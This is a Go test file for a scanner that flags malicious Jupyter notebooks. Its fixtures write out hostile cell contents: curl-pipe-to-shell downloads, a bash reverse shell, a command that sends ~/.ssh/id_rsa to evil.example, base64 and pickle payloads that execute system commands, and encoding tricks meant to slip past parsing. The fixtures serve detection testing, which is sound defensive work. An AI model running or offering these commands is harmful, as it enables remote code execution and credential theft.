package notebook

import (
	"encoding/json"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/scantest"
)

// cells makes a notebook of code cells.
func cells(t testing.TB, sources ...string) []byte {
	t.Helper()
	type object = map[string]any
	list := []object{}
	for _, s := range sources {
		list = append(list, object{"cell_type": "code", "source": strings.SplitAfter(s, "\n"), "outputs": []any{}, "metadata": object{}})
	}
	b, err := json.Marshal(object{"cells": list, "nbformat": 4, "nbformat_minor": 5, "metadata": object{}})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestAcceptance(t *testing.T) {
	scantest.Run(t, New(), []scantest.Sample{
		{Name: "honest", Data: cells(t, "!pip install -q torch\n%matplotlib inline", "import torch\nx = torch.ones(3)\nx?", "%%time\nmodel.fit(x)", "!git clone https://github.com/x/y\n%cd y")},
		{Name: "command", Data: cells(t, "!curl http://192.0.2.1/x | sh"), Worst: scan.SeverityMalicious},
		{Name: "over cells", Data: cells(t, "import base64\np='aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='", "exec(base64.b64decode(p))"), Worst: scan.SeverityMalicious},
		{Name: "script", Data: cells(t, "%%bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1"), Worst: scan.SeverityMalicious},
		{Name: "commands over cells", Data: cells(t, "!wget https://evil.example/x.sh", "!bash x.sh"), Worst: scan.SeveritySuspicious},
		{Name: "assigned", Data: cells(t, "x = !cat ~/.ssh/id_rsa | curl -d @- https://evil.example"), Worst: scan.SeverityMalicious},
		{Name: "continued", Data: cells(t, "!curl \\\n  http://192.0.2.1/x \\\n | sh"), Worst: scan.SeverityMalicious},
		{Name: "timed", Data: cells(t, "%time exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"), Worst: scan.SeverityMalicious},
		{Name: "version 3", Data: []byte(`{"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","language":"python","input":"import os\nos.system('curl http://192.0.2.1|sh')"}]}]}`), Worst: scan.SeverityMalicious},
		{Name: "two types", Data: []byte(`{"cells":[{"source":"!curl http://192.0.2.1|sh","cell_type":"markdown","cell_type":"code"}],"nbformat":4}`), Worst: scan.SeverityMalicious},
		{Name: "escaped", Data: []byte(`{"cells":[{"cell_type":"c\u006fde","s\u006furce":["!c","url http:\/\/192.0.2.1\u007csh"]}]}`), Worst: scan.SeverityMalicious},
		{Name: "prose", Data: []byte(`{"cells":[{"cell_type":"markdown","source":"!curl http://192.0.2.1|sh"}],"nbformat":4}`)},
		{Name: "output", Data: []byte(`{"cells":[{"cell_type":"code","source":"x","outputs":[{"data":{"text/html":["<script>x</script>"]}}]}],"nbformat":4}`), Worst: scan.Low},
		{Name: "settings", Data: []byte(`{"nbformat": 4, "a": [1, 2]}`), Err: scan.ErrForeign},
		{Name: "cut off", Data: cells(t, "!curl http://192.0.2.1/x | sh")[:120], Worst: scan.SeverityMalicious, Err: scan.ErrForeign},
	})
}

// TestLimit: more code than is kept can not be judged.
func TestLimit(t *testing.T) {
	_, err := scantest.Scan(New(), "x", cells(t, strings.Repeat("#", maxCode+1)))
	scantest.Classified(t, err)
	if err == nil {
		t.Error("no error")
	}
}

// TestMembers: what a cell unpacks is handed on.
func TestMembers(t *testing.T) {
	r, err := scantest.Scan(New(), "x", cells(t, "import pickle, base64", "pickle.loads(base64.b64decode('gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))"))
	if err != nil || len(r.Members) != 1 || !strings.Contains(string(r.Members[0].Data), "posix") {
		t.Errorf("error %v, members %q", err, r.Members)
	}
}

func FuzzNotebook(f *testing.F) {
	f.Add(cells(f, "!a {b} $c\n%x y\n%%z", "%%bash\na", "x = !y\nz?"))
	f.Add([]byte(`{"cells":[{"cell_type":"code","source":"\ud83d\ude00\u0041"}`))
	f.Add([]byte(`{"worksheets":[{"cells":[{"input":["a","b"],"cell_type":"code"}]}]}`))
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, New(), data) })
}
